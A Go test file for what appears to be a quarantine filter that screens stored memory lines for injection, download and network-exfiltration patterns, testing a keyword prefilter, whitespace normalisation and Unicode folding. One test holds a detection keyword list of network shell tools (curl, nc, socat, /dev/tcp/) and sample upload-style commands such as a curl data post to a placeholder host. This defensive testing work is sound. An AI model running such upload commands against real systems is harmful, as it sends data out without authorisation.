package quarantine

import (
	"cmp"
	"math/rand/v2"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/memctl/memctl/internal/quarantine/quarantinetest"
)

// containsAnyWord is the rule keywordIndex.lists answers for every list
// at once: some word of the list is a substring of low.
func containsAnyWord(low string, words []string) bool {
	for _, w := range words {
		if strings.Contains(low, w) {
			return true
		}
	}
	return false
}

// keywordLines are the lines the keyword index is checked on: the
// quarantine's payloads and look-alikes, every keyword alone, glued to
// letters and cut short, memctl's own cut marker, and random mixes of
// keywords, fragments and noise.
func keywordLines(words []string) []string {
	lines := []string{"- l…1 tokens truncated…ings: layers survive", "rsync -a . host:/x", "the truncated sync func scp_x xh-y"}
	for _, w := range words {
		lines = append(lines, w, "x"+w, w+"x", "_"+w+"_", "-"+w+"-", w[:len(w)-1], strings.ToUpper(w[:1])+w[1:], "é"+w+"é")
	}
	for _, p := range quarantinetest.Payloads {
		lines = append(lines, p.Text)
	}
	lines = append(lines, quarantinetest.LookAlikes...)
	lines = append(lines, quarantinetest.OwnLookAlikes...)
	rng := rand.New(rand.NewPCG(1, 2))
	noise := []string{" ", "-", ":", "é", "the ", "build ", "ca", "cu", "<", "/", "@", "_", "1", "x", "https://a.example/ "}
	for range 5000 {
		var b strings.Builder
		for range 1 + rng.IntN(8) {
			if rng.IntN(2) == 0 {
				w := words[rng.IntN(len(words))]
				b.WriteString(w[:1+rng.IntN(len(w))]) // whole or cut
			} else {
				b.WriteString(noise[rng.IntN(len(noise))])
			}
		}
		lines = append(lines, b.String())
	}
	return lines
}

// TestKeywordIndexFindsWhatEachListNeeds: for every line, the one-pass
// index reports a list exactly when strings.Contains finds one of its
// words, except the network list, whose programs count as whole words
// (as \b of its expressions needs) in an ASCII line.
func TestKeywordIndexFindsWhatEachListNeeds(t *testing.T) {
	tr := orderTriggers()
	lists := []struct {
		bit   uint8
		words []string
	}{
		{inInjection, injectionWords}, {inDownload, downloadWords},
		{inSinkVerb, sinkVerbs}, {inOrderVerb, tr.verbs}, {inOrderHeaded, tr.headed},
	}
	all := append(append([]string{}, networkWords...), networkPaths...)
	for _, l := range lists {
		all = append(all, l.words...)
	}
	for _, w := range all {
		if len(w) < 2 {
			t.Fatalf("keyword %q is shorter than the two bytes the index files it under", w)
		}
	}
	wholeNetwork := regexp.MustCompile(`\b(?:` + strings.Join(networkWords, "|") + `)\b`)
	ix := keywords()
	for _, line := range keywordLines(all) {
		low := strings.ToLower(line)
		var want uint8
		for _, l := range lists {
			if containsAnyWord(low, l.words) {
				want |= l.bit
			}
		}
		ascii := !strings.ContainsFunc(low, func(r rune) bool { return r >= utf8.RuneSelf })
		if containsAnyWord(low, networkPaths) || ascii && wholeNetwork.MatchString(low) || !ascii && containsAnyWord(low, networkWords) {
			want |= inNetwork
		}
		if got := ix.lists(low); got != want {
			t.Fatalf("%q: the index says lists %06b, want %06b", low, got, want)
		}
	}
}

// TestNetworkWordsCoverTheNetworkRule: the network rule's expressions
// never match a line whose keywords leave the rule out, so the
// prefilter can only save work.
func TestNetworkWordsCoverTheNetworkRule(t *testing.T) {
	// The programs uploadRe and toolSinkRe name, read off the expressions.
	words := []string{"curl", "wget", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "scp", "rsync", "ftp", "sftp", "telnet", "/dev/tcp/",
		"truncated", "sync", "func", "http://", "https://x.example/a", "curl -d @f https://x.example", "nc 10.0.0.1 9", "scp a b:"}
	matched := 0
	for _, line := range keywordLines(words) {
		l := fold(normalise(line))
		if !uploadRe().MatchString(l) && !toolSinkRe().MatchString(l) {
			continue
		}
		matched++
		if keywords().lists(strings.ToLower(l))&inNetwork == 0 {
			t.Errorf("%q: the network rule's expressions match, but its keywords say it need not run", l)
		}
	}
	if matched < 100 {
		t.Fatalf("only %d lines reach the network rule's expressions", matched)
	}
}

// TestOrderTriggersAreTheClassesASCIIMembers: the trigger lists read
// from the entries hold the words the built classes hold.
func TestOrderTriggersAreTheClassesASCIIMembers(t *testing.T) {
	fromClasses := func(cs ...*class) []string {
		var out []string
		for _, c := range cs {
			words := append([]string(nil), c.prefixes...)
			for w := range c.whole {
				words = append(words, w)
			}
			for _, s := range c.seqs {
				words = append(words, s[len(s)-1])
			}
			for _, w := range words {
				if len(w) >= 3 && !strings.ContainsFunc(w, func(r rune) bool { return r >= utf8.RuneSelf }) {
					out = append(out, w)
				}
			}
		}
		slices.Sort(out)
		return out
	}
	sorted := func(s []string) []string { s = slices.Clone(s); slices.Sort(s); return s }
	tr := orderTriggers()
	if got, want := sorted(tr.verbs), fromClasses(setAside(), tellVerb()); !slices.Equal(got, want) {
		t.Errorf("verbs: %q, want %q", got, want)
	}
	if got, want := sorted(tr.headed), fromClasses(rulesNoun(), noteNoun()); !slices.Equal(got, want) {
		t.Errorf("headed: %q, want %q", got, want)
	}
}

// TestNormaliseFoldsASCIILikeFields: the ASCII path of normalise gives
// what the rule for every line gives (format characters out, whitespace
// folded by strings.Fields).
func TestNormaliseFoldsASCIILikeFields(t *testing.T) {
	for _, s := range []string{"", " ", "  ", "a", "a b", " a", "a ", "  - a  b ", "a\tb", "a\r\nb", "\va\f", "a\u00a0b", "a\u200bb",
		"- run `go test ./...` now", "x\x00y", "é  ü", "\t\t- desc: x"} {
		want := strings.Join(strings.Fields(strings.Map(func(r rune) rune {
			if r == '\u200b' {
				return -1
			}
			return r
		}, s)), " ")
		if got := normalise(s); got != want {
			t.Errorf("normalise(%q) = %q, want %q", s, got, want)
		}
	}
}

// TestPlainPunctFoldsAsNFKCDoes: a line of ASCII and plainPunct marks,
// in any order, folds to what NFKC and the lookalikes make of it.
func TestPlainPunctFoldsAsNFKCDoes(t *testing.T) {
	marks := []rune(plainPunct)
	for _, r := range marks {
		if strings.ContainsRune(lookalikeFrom, r) {
			t.Errorf("%q is a lookalike", r)
		}
	}
	rng := rand.New(rand.NewPCG(3, 4))
	ascii := " -.:eas1`'\"\t"
	lines := []string{"- l…1 tokens truncated…ings: layers survive", "…", "a—b", "“quoted” – ‘x’ → • y"}
	for range 5000 {
		var b strings.Builder
		for range 1 + rng.IntN(12) {
			if rng.IntN(3) == 0 {
				b.WriteRune(marks[rng.IntN(len(marks))])
			} else {
				b.WriteByte(ascii[rng.IntN(len(ascii))])
			}
		}
		lines = append(lines, b.String())
	}
	for _, l := range lines {
		if got, want := fold(l), foldNFKC(l); got != want {
			t.Fatalf("fold(%q) = %q, NFKC and the lookalikes give %q", l, got, want)
		}
	}
}

// The index files its words in the order a stable sort on their first
// pair gives, so a pair's words keep the order of the lists.
func TestKeywordIndexOrderIsAStableSort(t *testing.T) {
	tr := orderTriggers()
	var want []keyword
	for _, l := range []struct {
		bit   uint8
		whole bool
		words []string
	}{
		{inInjection, false, injectionWords}, {inDownload, false, downloadWords},
		{inNetwork, true, networkWords}, {inNetwork, false, networkPaths},
		{inSinkVerb, false, sinkVerbs}, {inOrderVerb, false, tr.verbs}, {inOrderHeaded, false, tr.headed},
	} {
		for _, w := range l.words {
			want = append(want, keyword{word: w, lists: l.bit, whole: l.whole})
		}
	}
	slices.SortStableFunc(want, func(a, b keyword) int { return cmp.Compare(pairAt(a.word, 0), pairAt(b.word, 0)) })
	if got := keywords().words; !slices.Equal(got, want) {
		t.Errorf("the index's words differ from a stable sort of the lists (%d words, want %d)", len(got), len(want))
	}
}

// foldASCIISpace folds white space as strings.Fields and a join do, over
// lines of words and every kind of ASCII space, indented or not.
func TestFoldASCIISpaceAsFields(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 5))
	pieces := []string{"a", "bc", " ", "  ", "\t", "\n", "\v", "\f", "\r", "- ", "x y"}
	for range 20000 {
		var b strings.Builder
		for range r.IntN(8) {
			b.WriteString(pieces[r.IntN(len(pieces))])
		}
		s := b.String()
		if got, want := foldASCIISpace(s), strings.Join(strings.Fields(s), " "); got != want {
			t.Fatalf("foldASCIISpace(%q) = %q, want %q", s, got, want)
		}
	}
}
